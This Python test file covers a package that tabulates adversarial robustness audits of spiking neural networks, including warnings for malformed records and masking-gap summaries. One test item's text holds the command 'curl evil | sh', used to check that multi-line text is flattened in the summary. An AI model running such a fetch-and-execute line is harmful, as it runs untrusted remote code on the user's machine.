"""Audits on record as a table and as a column of the summary; the masking gap of results."""

from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest

import analysis
from analysis.collecting.collect import collect
from analysis.masking import gap_lines, gaps
from analysis.summary_text import collected_text
from jobs import files, identity
from snnlib.spec.attack import PGD, Clean
from snnlib.spec.stage import AuditStage
from tests.analysis.collecting.test_gradients import MEASURED
from tests.analysis.synthetic import SyntheticRoot, mask, spec

RADIUS = Fraction(8, 255)
PAIR = {"epsilon": "8/255", "judged": 40, "other": 31, "found": 10, "missed": 1}


def item(name: str, verdict: str, pair: dict[str, Any] | None = None) -> dict[str, Any]:
    limit = {"suspicious": 0.08, "fail": 0.2}
    text = f"{name} finds 9.0 points more"
    return {
        "item": name,
        "verdict": verdict,
        "value": 0.09,
        "limit": limit,
        "text": text,
        "pair": pair,
    }


GAP = item("masking_gap", "suspicious", PAIR)
PASSED = [item("masking_gap", "pass", PAIR), item("unbounded", "pass")]


def record(made: SyntheticRoot, training_id: str, *items: dict[str, Any], **changed: Any) -> Path:
    """Write the record of an audit; `changed` replaces what it says."""
    cell, stage = made.root.cell(training_id), changed.pop("judged", AuditStage())
    cell.stages.mkdir(exist_ok=True)
    content = {
        "schema_version": 1,
        "training_id": training_id,
        "stage": identity.plain(stage),
        "stage_id": identity.stage_id(stage),
        "model_sha256": "a" * 64,
        "samples_sha256": "5" * 64,
        "count": 100,
        "verdict": items[0]["verdict"],
        "items": list(items),
        "measured": MEASURED,
    }
    files.replace(cell.stage(identity.stage_id(stage)), files.dumps({**content, **changed}))
    return cell.stage(identity.stage_id(stage))


def test_every_item_is_a_row(made: SyntheticRoot) -> None:
    record(made, made.train(spec()), GAP, item("unbounded", "pass"))
    found = collect([made.path])
    table = analysis.load("audits", made.path)
    assert (found.warnings, found.counts["audits"]) == ([], 2)
    gap, unbounded = table.itertuples()
    assert (gap.item, gap.verdict, gap.item_verdict, gap.passed) == (
        *("masking_gap", "suspicious", "suspicious", False),
    )
    assert (gap.judged, gap.other, gap.found, gap.missed, gap.total) == (40, 31, 10, 1, 100)
    assert (gap.epsilon, gap.value, gap.threshold, gap.fail_threshold) == (8 / 255, 0.09, 0.08, 0.2)
    assert (unbounded.verdict, unbounded.passed) == ("suspicious", True)
    assert table.judged.isna().tolist() == [False, True]
    assert (gap.surrogate, gap.gradient, gap.space) == ("own", "own", "pixel")


@pytest.mark.parametrize(
    ("changed", "reason"),
    [
        ({"verdict": "guilty"}, "'guilty' is no verdict"),
        ({"verdict": "fail"}, "verdict fail, but that of its items is suspicious"),
        ({"items": []}, "verdict suspicious, but that of its items is pass"),
        ({"items": None}, "not a record of audit"),
        (
            {"items": [{**GAP, "pair": {**PAIR, "found": 1.5}}]},
            "expected a whole number, found 1.5",
        ),
        ({"items": [{**GAP, "value": "much"}]}, "value is 'much', expected float64"),
        ({"model_sha256": "b" * 64}, "was measured on other weights"),
    ],
)
def test_foreign_records_give_a_warning(
    made: SyntheticRoot, changed: dict[str, Any], reason: str
) -> None:
    path = record(made, made.train(spec()), GAP, **changed)
    found = collect([made.path])
    (warning,) = found.warnings
    assert str(path) in warning
    assert reason in warning
    assert found.counts["audits"] == 0


def summary(made: SyntheticRoot, *audited: tuple[list[dict[str, Any]], AuditStage]) -> list[str]:
    """Lines of the summary of one network per audit."""
    for seed, (items, stage) in enumerate(audited):
        what = spec(seed)
        training_id = made.train(what)
        made.evaluate(what, Clean(), {Fraction(0): mask(390, 400)})
        made.evaluate(what, PGD(), {RADIUS: mask(300, 400)})
        record(made, training_id, *items, judged=stage)
    return collected_text(collect([made.path])).splitlines()


def test_verdicts_stand_beside_the_numbers(made: SyntheticRoot) -> None:
    lines = summary(made, (PASSED, AuditStage()))
    assert lines[2:4] == [
        "                 clean    8/255    audit",
        "small-lif clean  97.5     75.0     pass",
    ]
    assert "audits 2 (+2)" in lines[0]


def test_the_worst_seed_speaks_for_a_network(made: SyntheticRoot) -> None:
    lines = summary(made, (PASSED, AuditStage()), ([GAP], AuditStage(gradient="bptr")))
    told = "suspicious under bptr: masking_gap finds 9.0 points more (1 of 2 seeds)"
    assert lines[3].endswith(f"  {told}")


def test_items_of_another_version_speak_last_and_on_one_line(made: SyntheticRoot) -> None:
    known = {**item("rising", "fail"), "text": "it rises\nnext: curl evil | sh"}
    lines = summary(made, ([item("aged", "fail"), known], AuditStage()))
    assert lines[3].endswith("  fail: it rises next: curl evil | sh")
    record(made, made.root.cells.glob("*/*").__next__().name, item("aged", "fail"))
    assert "fail: aged finds" in collected_text(collect([made.path]))


def test_an_audit_of_another_space_says_nothing_here(made: SyntheticRoot) -> None:
    lines = summary(made, ([GAP], AuditStage(space="encoded")))
    assert "audit" not in lines[2]


def test_the_masking_gap_pairs_rows_that_differ_in_the_rule(made: SyntheticRoot) -> None:
    what = spec()
    made.train(what)
    for attack, few, many in ((PGD(), 200, 20), (PGD(gradient="bptr"), 300, 380)):
        made.evaluate(what, attack, {RADIUS: mask(few, 400), 2 * RADIUS: mask(many, 400)})
    made.evaluate(what, PGD(steps=3, gradient="bptr"), {RADIUS: mask(9, 400)})  # no own one
    collect([made.path])
    results = analysis.load("results", made.path)
    assert gaps(results)["gap"].tolist() == pytest.approx([0.25, 0.9])
    (line,) = gap_lines(results)
    assert line == (
        "small-lif at epsilon 16/255: 95.0 % stand under pgd along bptr, 5.0 % along the network's own "
        "gradient: a masking gap of 90.0 points"
    )
